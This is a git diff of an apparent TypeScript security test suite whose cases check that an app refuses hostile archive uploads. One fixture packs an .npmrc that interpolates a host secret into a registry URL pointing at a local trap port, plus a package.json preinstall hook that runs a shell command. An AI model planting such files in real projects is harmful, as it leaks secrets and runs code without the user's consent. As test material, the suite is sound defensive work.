@@ -17,15 +17,20 @@ async function upload(scene: CorpusScene, app: string, archive: Uint8Array<Array
   });
   const seen = await sightOf(response);
   const still = await scene.see(app);
-  if (still !== "200") return `the app says ${still} after ${seen}`;
+  if (still !== (seen.startsWith("201") ? "200 uploaded" : "200")) return `the app says ${still} after ${seen}`;
   return seen.split(" ").slice(0, 2).join(" ");
 }
 
-function archive(name: string, bytes: () => Uint8Array<ArrayBuffer>, more: readonly string[] = []): HostileCase {
+function archive(
+  name: string,
+  bytes: (scene: CorpusScene) => Uint8Array<ArrayBuffer>,
+  more: readonly string[] = [],
+): HostileCase {
   return {
     name: `an upload with ${name}`,
     deed: DONE,
-    act: (scene, app) => upload(scene, app, bytes()),
+    act: (scene, app) => upload(scene, app, bytes(scene)),
+    spoilsItself: true,
     sees: [...REFUSED_UPLOAD, ...more],
   };
 }
@@ -256,8 +261,8 @@ export const OPERATOR_CASES: readonly HostileCase[] = [
   ),
   archive(
     "credentials for a registry",
-    () =>
-      rawZip([good, { name: ".npmrc", content: "registry=http://127.0.0.1:1/${NANO_HOST_SECRET}\n" }, {
+    ({ trap }) =>
+      rawZip([good, { name: ".npmrc", content: `registry=http://127.0.0.1:${trap.port}/\${NANO_HOST_SECRET}\n` }, {
         name: "package.json",
         content:
           '{"main":"index.js","dependencies":{"left-pad":"1.3.0"},"scripts":{"preinstall":"touch /tmp/nano-corpus-evil"}}',
